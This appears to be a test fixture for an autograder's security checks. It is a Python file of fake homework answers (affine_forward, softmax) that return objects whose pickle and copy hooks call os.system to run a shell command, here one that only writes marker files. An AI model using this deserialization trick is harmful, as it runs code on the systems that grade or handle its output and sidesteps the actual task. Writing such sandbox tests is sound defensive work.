"""Answers with objects that run code in whichever process unpickles, copies or prints them."""

import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("echo LEAK; touch /tmp/AUTOGRADER_THREAT_LEFTOVER ~/AUTOGRADER_THREAT_LEFTOVER",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __copy__ = lambda self: self.__reduce__()
    __deepcopy__ = lambda self, memory: self.__reduce__()


def affine_forward(x, w, b):
    return Bomb(), Bomb()


def softmax(z):
    return np.array([[Bomb()] * z.shape[1]] * z.shape[0], dtype=object)
